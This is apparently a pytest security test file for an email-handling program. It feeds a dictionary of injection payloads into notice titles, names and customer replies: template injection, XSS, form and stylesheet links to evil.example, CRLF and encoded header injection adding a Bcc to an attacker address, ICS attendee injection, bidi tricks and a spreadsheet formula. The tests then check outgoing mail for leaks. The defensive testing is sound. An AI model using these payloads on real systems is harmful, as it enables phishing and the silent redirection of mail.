"""Hostile words in every place from which words come, through the whole program, and every mail that leaves looked at.

SECURITY.md T9 to T12: header lines, addresses, ICS properties, Markdown, templates, HTML, bidi and control characters.
"""

import email
import re
from email import policy

import pytest

from attacks.rig import ANA, BEN, DANA, INBOX, MARTA, PRIYA, Rig
from handoffd.letters.message import Message

OURS = {DANA, ANA, BEN, PRIYA, MARTA}
# What no mail of ours may hold, in a header, a text, a page, a calendar or a name of a file.
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff]")

ATTACKS = {
    "a template": "{{ 7*7 }} {% for x in range(9) %}x{% endfor %} {{ ''.__class__.__mro__ }} {{handoff.dossier}}",
    "an attribute of Jinja in a filter": "{{ 7|attr('__class__') }} {# comment #} {%- set a = 49 -%}",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)><a href='https://evil.example/pay'>pay</a>",
    "HTML that closes what is open": '"></td></table><form action=https://evil.example><input name=p></form>',
    "a style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "Markdown": "[log in](https://evil.example/login) ![t](https://evil.example/t.png) **x** <https://evil.example/a>",
    "a link of Markdown with a script": "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "bidi": "\u202egnp.exe\u202c \u2066\u2067hidden\u2069 \u200fABC\u200e",
    "invisible": "A\u200bc\u200cm\u200de\u2060\ufeff\u00ad",
    "control": "Acme\x00\x07\x1b[31mred\x1b[0m\x7f\x85",
    "an encoded header line": "=?utf-8?q?Acme=0D=0ABcc=3A=20eve=40evil.example?= x",
    "an encoded address": "=?utf-8?q?eve=40evil.example=2C?= <eve@evil.example>, x",
    "header lines": "Acme\u2028Bcc: eve@evil.example\u2029X-Handoffd: 1\x0bTo: eve@evil.example",
    "ICS lines": "Acme\\nATTENDEE:mailto:eve@evil.example\u2028ORGANIZER:mailto:eve@evil.example;CN=x\x85END:VEVENT",
    "ICS parameters": 'Acme";CN="x":mailto:eve@evil.example\\;X=1,2;^n^\'',
    "a formula": '=HYPERLINK("https://evil.example","x") +1 -1 @SUM(A1)',
}


@pytest.fixture(params=ATTACKS)
def words(request) -> str:
    return ATTACKS[request.param]


def told(rig: Rig, words: str) -> None:
    """Put the words into a notice's title, a subject, names, every section, and a customer's answer."""
    rig.notice(title=f"Acme {words} MSA.pdf".replace("\x0b", " ").replace("\x85", " "))
    rig.turn()
    request = rig.mails(DANA)[-1]
    notes = {
        1: f"Acme GmbH {words}, logistics, 40 people\nHamburg, Germany",
        2: f"Marta {words} Weiss, COO, marta@acme.example",
        3: f"They said: {words}",
        4: f"Success after 90 days, in one sentence the customer may read: {words}",
        **{number: f"fact {number} {words}" for number in range(5, 11)},
    }
    rig.reply(request, "\n".join(f"{number}: {text}" for number, text in notes.items()))
    rig.turn()


def looked_at(rig: Rig) -> int:
    for envelope in rig.post.taken:
        assert envelope.recipient in OURS
        clean(envelope.raw, envelope.recipient)
    return len(rig.post.taken)


def clean(raw: bytes, recipient: str) -> None:
    mail = email.message_from_bytes(raw, policy=policy.default)
    message = Message(raw)
    for name in ("From", "To", "Cc", "Reply-To", "Sender"):
        for address in message.addresses(name):
            assert address.untagged in {*OURS, INBOX}, (name, address)
            assert not UNSEEN.search(address.name)
    assert not message.header("Bcc")
    assert len(message.headers("To")) == len(message.headers("Subject")) == len(message.headers("From")) == 1
    assert recipient in {each.email for each in message.recipients}
    assert not UNSEEN.search(message.subject), message.subject
    for part in mail.walk():
        if part.get_content_maintype() != "text":
            continue
        text = part.get_content()
        assert not UNSEEN.search(text), (part.get_content_type(), UNSEEN.search(text))
        if part.get_content_type() == "text/html":
            no_markup_of_theirs(text)
        if part.get_content_type() == "text/calendar":
            no_line_of_theirs(text)


def no_markup_of_theirs(page: str) -> None:
    for tag in re.findall(r"<[a-zA-Z][^>]*>", page):
        assert not re.match(r"<(script|form|input|iframe|object|link|base)\b", tag, re.IGNORECASE), tag
        assert not UNSEEN.search(tag)
        for link in re.findall(r"""\b(?:href|src|action|background)=["']?([^"'\s>]*)""", tag):
            assert link.startswith((f"mailto:{INBOX.partition('@')[0]}", "https://meet.brightlane.example/", "cid:")), (
                tag
            )
        assert not re.search(r"\son\w+\s*=|javascript:|data:text", tag, re.IGNORECASE), tag


def no_line_of_theirs(calendar: str) -> None:
    lines = re.sub(r"\r?\n[ \t]", "", calendar).splitlines()
    assert not [
        line for line in lines if line.startswith(("ATTENDEE", "ORGANIZER")) and "evil" in line.rpartition(":")[2]
    ]
    assert lines.count("END:VEVENT") == 1
    assert len([line for line in lines if line.startswith("ORGANIZER")]) == 1


def test_whatever_stands_in_a_title_a_name_or_an_answer_is_only_text_in_what_leaves(rig, words):
    told(rig, words)
    assert rig.handoffs() == 1
    for _ in range(3):
        drafts = [mail for mail in rig.mails(DANA) if "please approve" in mail.subject][-1:]
        for draft in drafts:
            rig.reply(draft, "approve")
            rig.turn()
    rig.go(rig.clock.now().replace(day=13, hour=12))
    for mail in rig.mails(ANA, "please approve")[-1:]:
        rig.reply(mail, "approve", by=ANA)
        rig.turn()
    for mail in rig.mails(MARTA)[-1:]:
        rig.reply(mail, f"Thanks. {words}", by=f'"Marta {words}" <{MARTA}>'.replace("\x0b", " ").replace("\x85", " "))
        rig.turn()
    rig.go(rig.clock.now().replace(day=20))
    assert looked_at(rig) > 8
    assert "49" not in " ".join(
        Message(each.raw).plain for each in rig.post.taken if "7*7" in words and each.recipient == MARTA
    )
